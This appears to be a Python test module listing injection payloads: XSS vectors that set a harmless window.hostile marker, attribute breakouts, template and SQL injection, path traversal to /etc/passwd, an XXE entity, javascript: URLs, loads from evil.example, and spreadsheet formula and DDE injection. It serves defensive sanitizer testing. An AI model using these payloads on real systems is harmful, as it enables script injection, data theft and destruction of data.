"""Texts that would do harm if a page took them for markup, a program for its own syntax, or a reader's eye for others.

Each script among them would set `window.hostile`, so that a browser can say whether one ran. None has a copy elsewhere.
"""

_MARKUP = [
    "<script>window.hostile=1</script>",
    "<ScRiPt/x>window.hostile=1</sCrIpT\t>",
    '<script src="//evil.example/a.js"></script>',
    "<scr<script>ipt>window.hostile=1</script>",
    "<img src=x onerror=window.hostile=1>",
    "<img/src='x'/onerror=window.hostile=1//",
    "<svg/onload=window.hostile=1>",
    "<svg><animate onbegin=window.hostile=1 attributeName=x>",
    "<svg><script>window.hostile&#61;1</script></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=a/>#a"/></svg>',
    '<math><a xlink:href="javascript:window.hostile=1">x</a></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hostile=1>",
    '<iframe srcdoc="<script>parent.hostile=1</script>">',
    "<iframe src=javascript:parent.hostile=1>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Set-Cookie" content="a=b">',
    "<style>*{background:url(//evil.example/)}</style>",
    '<link rel="stylesheet" href="//evil.example/a.css">',
    '<object data="javascript:window.hostile=1"></object>',
    '<embed src="data:text/html,<script>window.hostile=1</script>">',
    '<form action="https://evil.example/"><input name="q"></form>',
    '<button formaction="javascript:window.hostile=1">x</button>',
    "<details open ontoggle=window.hostile=1>",
    "<body onpageshow=window.hostile=1>",
    "<marquee onstart=window.hostile=1>",
    "<video><source onerror=window.hostile=1></video>",
    "<b style=position:fixed;inset:0>x</b>",
    "<plaintext>",
    '<noscript><p title="</noscript><img src=x onerror=window.hostile=1>">',
    "<template><script>window.hostile=1</script></template>",
]
_ENDINGS = [
    '"><img src=x onerror=window.hostile=1>',
    "'><img src=x onerror=window.hostile=1>",
    '" onmouseover="window.hostile=1" x="',
    "' onfocus='window.hostile=1' autofocus='",
    "` onclick=`window.hostile=1`",
    '" style="display:block" a="',
    "</title><script>window.hostile=1</script>",
    "</textarea><script>window.hostile=1</script>",
    "</script><script>window.hostile=1</script>",
    "</style></head><body onload=window.hostile=1>",
    "</mark></a></p></main><b>x</b>",
    "--><script>window.hostile=1</script><!--",
    "<!--><img src=x onerror=window.hostile=1>-->",
    "<![CDATA[<script>window.hostile=1</script>]]>",
    "]]><x:script>window.hostile=1</x:script>",
    "<?xml-stylesheet href='javascript:window.hostile=1'?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
]
_SYNTAX = [
    "&lt;script&gt;window.hostile=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hostile=1&#62;",
    "&quot;&gt;&amp;quot;&#x22;&#0;&apos",
    "%3Cscript%3Ewindow.hostile=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hostile=1",
    "+ADw-script+AD4-window.hostile=1",
    "\ufe64script\ufe65window.hostile=1\uff1c/script\uff1e",
    "{{7*7}}{% raw %}{{config}}",
    "{% include '/etc/passwd' %}{# #}",
    "{0}{moment}{count!r}{reports.__class__}",
    "%s%(lang)s${7*7}#{7*7}<%=7*7%>",
    "{\\rtf1}\\input{/etc/passwd}}\n@misc{x,",
    "a\r\nSet-Cookie: a=b\r\n\r\n<b>x</b>",
    "a\x00<script\x00>window.hostile=1</script>",
    "\x01\x08\x0b\x1b[2J\x7f\x85\ufffe\uffff",
    "\u202e\u2066gpj.exe\u2069\u200b\ufeff\u2028\u2029",
    "".join(chr(0x300 + n) for n in range(40)),
    "../../../../etc/passwd\\..\\",
    "'; DROP TABLE reports; --",
    '") OR id NOTNULL --',
]
ADDRESSES = [
    "javascript:window.hostile=1",
    "JaVaScRiPt:window.hostile=1",
    " \x01javascript:window.hostile=1",
    "java\tscript:window.hostile=1",
    "java\nscript\r:window.hostile=1",
    "javascript&colon;window.hostile=1",
    "&#106;avascript:window.hostile=1",
    "//evil.example/",
    "\\\\evil.example\\",
    "/\t/evil.example/",
    "https:javascript:window.hostile=1",
    "http://[::1",
    "http://evil.example]/",
    "data:text/html,<script>window.hostile=1</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:window.hostile=1",
    "file:///etc/passwd",
    "blob:null/0",
    'https://www.example.gov.cn/"><script>window.hostile=1</script>',
    "https://www.example.gov.cn/\x00\r\n' onclick='window.hostile=1",
]
"""What stands where the address of a page is expected."""

FORMULAS = [
    '=HYPERLINK("//evil.example/","a")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)*cmd", "\t=1+1", "\r=1+1", "\n=1+1",
    "\u3000＝1+1", "\ufeff=1+1", '"=1+1', 'a","=1+1', "a;=1+1\r\n=2+2",
]  # fmt: skip
"""What a spreadsheet would reckon."""

LONG = "<b>" * 3000

PAYLOADS = [*_MARKUP, *_ENDINGS, *_SYNTAX, *ADDRESSES, *FORMULAS, LONG]
